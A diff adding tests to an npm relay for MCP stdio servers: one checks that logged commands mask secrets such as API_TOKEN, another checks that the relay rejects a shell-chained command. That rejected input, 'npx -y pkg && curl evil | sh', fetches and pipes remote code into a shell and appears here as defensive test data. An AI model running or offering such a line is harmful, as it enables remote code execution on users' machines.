@@ -87,6 +87,29 @@ describe("npm start's relay for stdio servers", () => {
     await Promise.all(relays.map((r) => r.close()));
   });
 
+  test("the relay's terminal is told exactly what a page's stdio server runs, secrets masked", async () => {
+    const lines: string[] = [];
+    const relay = await startRelay({ origins: [ORIGIN], stdio: true, log: (l) => lines.push(l) });
+    relays.push(relay);
+    const added = {
+      ...marked("log", "http://stdio.local/everything"),
+      env: { API_TOKEN: "t-secret-1" },
+    };
+    const answer = await send(
+      `${relay.url}/stdio`,
+      headersFor(relay),
+      "POST",
+      JSON.stringify(added),
+    );
+    assert.equal(answer.status, 201, answer.body);
+    assert.equal(lines.length, 1);
+    assert.match(
+      lines[0],
+      /stdio server \(http:\/\/stdio\.local\/everything\): API_TOKEN=•+ \S+ node_modules\/@modelcontextprotocol\/server-everything\/dist\/index\.js stdio$/,
+    );
+    assert.doesNotMatch(lines[0], /t-secret-1/);
+  });
+
   test("server-everything over stdio: list, call with progress, DELETE ends the child", async () => {
     const relay = await startRelay({ origins: [ORIGIN], stdio: true });
     relays.push(relay);
@@ -264,6 +287,13 @@ describe("npm start's relay for stdio servers", () => {
       [off, headersFor(off), body, 403, /RELAY_STDIO=1/],
       [on, headersFor(on), '{"command":""}', 400, /"command"/],
       [on, headersFor(on), '{"command":"x","args":"-c rm"}', 400, /"args"/],
+      [
+        on,
+        headersFor(on),
+        '{"command":"npx -y pkg && curl evil | sh"}',
+        400,
+        /is a shell line, not a program/,
+      ],
     ];
     for (const [relay, headers, text, status, error] of cases) {
       const answer = await send(`${relay.url}/stdio`, headers, "POST", text);
